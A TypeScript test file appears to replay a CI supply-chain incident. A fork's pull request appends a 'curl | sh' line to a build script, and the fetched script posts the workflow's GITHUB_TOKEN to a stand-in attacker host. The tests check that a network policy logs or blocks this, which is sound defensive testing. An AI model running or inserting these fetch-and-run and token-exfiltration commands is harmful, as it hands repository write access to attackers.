// docs/incidents/forked-pull-request.md
import t from 'tap'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(180_000)

const gist = 'gist.githubusercontent.com'
const catcher = 'catcher.attacker.test'
const token = `ghs_${'forkedPullRequest'.repeat(2)}00`
const basic = Buffer.from(`x-access-token:${token}`).toString('base64')

/** What the pull request of a stranger adds to a script that the privileged workflow runs: one line. */
const line = `curl -sSfL https://${gist}/stranger/0f3a/raw/run.sh | sh`
/** What that fetches: the workflow's token, which can write to the repository, goes out. */
const fetched = `curl -sS -m 10 -d "t=$GITHUB_TOKEN" http://${catcher}/collect >/dev/null 2>&1\n`

const incident: Incident<'checkout' | 'build'> = {
  attacker: [catcher],
  honest: ['github.com', 'api.github.com', gist],
  spoils: [token],
  policy: [
    'allow:',
    '  - GET,POST https://github.com/acme/**',
    '  - GET https://api.github.com/repos/acme/**',
    'tokens: {}',
    '',
  ].join('\n'),
  env: { GITHUB_TOKEN: token },
  steps: {
    checkout: [
      `git -c http.extraheader="AUTHORIZATION: basic ${basic}" clone -q https://github.com/acme/app.git app`,
      `echo '${line}' >> app/build.sh`,
    ].join(' && '),
    build: 'cd app && sh build.sh; echo built >&2',
  },
}

t.test("Flank and Azure's Karpenter, 2024: a fork's pull request runs curl", { skip: whyNoLab(['git']) }, async t => {
  await using lab = await openLab({ services: ['origins', 'git'] })
  await lab.origins.script(gist, '/stranger/0f3a/raw/run.sh', { status: 200, body: fetched })
  const told = { host: gist, reason: 'no-rule', exe: /\/curl$/, parent: /sh$/ }

  await t.test('in audit: a host no build of this repository asks, by curl below the build script', async t => {
    const run = await replay(lab, incident, 'audit')
    await itWorked(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http', method: 'GET' })
    itIsTold(t, run, { ...told, host: catcher, verdict: 'observe', layer: 'http', method: 'POST', port: 80 })
    const alarms = run.lines.filter(({ details }) => details?.['kind'] === 'token-abroad')
    t.match(
      alarms,
      [{ event: 'anomaly', host: catcher, process: { exe: /\/curl$/ } }],
      "the workflow's token went abroad",
    )
  })
  await t.test('in block: nothing is fetched, and the checkout works', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
    t.equal(run.step('checkout').exitCode, 0, run.step('checkout').stderr)
    t.same(await lab.origins.requests({ host: gist }), [])
  })
  await t.test('in block, where the policy lets gists be read: what they fetch has no way out', async t => {
    const open = { ...incident, policy: incident.policy.replace('allow:', `allow:\n  - GET ${gist}`) }
    const run = await replay(lab, open, 'block')
    await itWasStopped(t, lab, open)
    itIsTold(t, run, { ...told, host: catcher, verdict: 'deny', layer: 'dns' })
    t.equal((await lab.origins.requests({ host: gist })).length, 1, 'it was fetched')
  })
})
